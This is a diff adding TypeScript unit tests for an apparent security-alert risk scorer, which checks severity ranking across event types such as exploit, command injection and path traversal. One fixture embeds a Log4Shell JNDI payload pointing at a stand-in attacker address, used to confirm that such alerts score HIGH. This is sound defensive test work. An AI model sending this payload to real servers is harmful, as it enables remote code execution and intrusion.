@@ -35,6 +35,35 @@ function score(fields: Record<string, unknown>, source: Geo, destination: Geo | 
 const sumOf = (risk: Risk) => risk.factors.reduce((total, factor) => total + factor.contribution, 0);
 const factor = (risk: Risk, name: string) => risk.factors.find((candidate) => candidate.name === name);
 
+describe('sensor alert types', () => {
+  const ATTACKER: Geo = { ip: '203.0.113.9', zone: 'public', criticalAsset: false };
+  const WEB_SERVER: Geo = { ip: '10.0.0.100', zone: 'private', criticalAsset: false };
+  const web = { destination_ip: '10.0.0.100', destination_port: 80, source_ip: '203.0.113.9' };
+
+  it('scores a served Log4Shell exploit from the internet at least HIGH, from the exploit type and its evidence', () => {
+    const risk = score({ ...web, event_type: 'exploit', payload: { url: '/?q=${jndi:ldap://203.0.113.9/a}', signature: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', status_code: 200 } }, ATTACKER, WEB_SERVER);
+    expect(factor(risk, 'event_type')?.detail).toMatch(/^exploit starts at 35 points/);
+    expect(factor(risk, 'evidence')?.contribution).toBeGreaterThan(20);
+    expect(['HIGH', 'CRITICAL']).toContain(risk.severity);
+    expect(sumOf(risk)).toBe(risk.score);
+  });
+
+  it('ranks, for the same request and ends: command injection and exploit over path traversal over reconnaissance, policy and anomaly', () => {
+    const scoreOf = (type: EventType) => score({ ...web, event_type: type, payload: {} }, ATTACKER, WEB_SERVER).score;
+    expect(scoreOf('command_injection')).toBe(scoreOf('exploit'));
+    expect(scoreOf('exploit')).toBeGreaterThan(scoreOf('path_traversal'));
+    expect(scoreOf('path_traversal')).toBeGreaterThan(scoreOf('reconnaissance'));
+    expect(scoreOf('reconnaissance')).toBe(scoreOf('policy_violation'));
+    expect(scoreOf('policy_violation')).toBe(scoreOf('protocol_anomaly'));
+    expect(scoreOf('protocol_anomaly')).toBeGreaterThan(scoreOf('unknown'));
+  });
+
+  it('keeps a policy violation from the internet without evidence LOW or below', () => {
+    const risk = score({ ...web, event_type: 'policy_violation', destination_port: 9001, payload: {} }, ATTACKER, WEB_SERVER);
+    expect(['LOW', 'INFO']).toContain(risk.severity);
+  });
+});
+
 describe('severityForScore', () => {
   it.each<[number, Severity]>([
     [0, 'INFO'],
